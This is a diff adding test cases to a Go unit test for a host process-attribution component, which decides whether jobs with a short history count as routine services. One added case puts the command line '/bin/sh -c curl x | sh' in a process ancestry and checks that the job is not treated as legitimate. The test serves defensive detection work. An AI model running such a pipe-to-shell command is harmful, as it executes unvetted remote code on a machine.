@@ -38,6 +38,11 @@ func TestServicesOfTheHost(t *testing.T) {
 		{"in a container", with(attribution.Facts{Process: linux("root", script, initd), History: often}, func(f *attribution.Facts) { f.Process.ContainerID = "c0ffee" }), none("")},
 		{"somebody's own job, as always", own("/home/al/bin/morning.sh"), want{attribution.Management, "morning.sh", "a routine of this host"}},
 		{"their job with another's script", own("/home/mallory/x.sh"), none("")},
+		{"their job, there from the beginning", with(own("/home/al/bin/morning.sh"), func(f *attribution.Facts) { f.History = attribution.History{Short: true} }), want{attribution.Management, "morning.sh", "started for al before anything could be new here"}},
+		{"another's script, from the beginning", with(own("/home/mallory/x.sh"), func(f *attribution.Facts) { f.History = attribution.History{Short: true} }), none("")},
+		{"code on the job's line, from the beginning", with(own("/home/al/bin/morning.sh"), func(f *attribution.Facts) {
+			f.History, f.Process.Ancestry[1].CmdLine = attribution.History{Short: true}, "/bin/sh -c curl x | sh"
+		}), none("")},
 		{"their job at first sight", with(own("/home/al/bin/morning.sh"), func(f *attribution.Facts) { f.History.Routine = 0 }), none("")},
 	})
 }
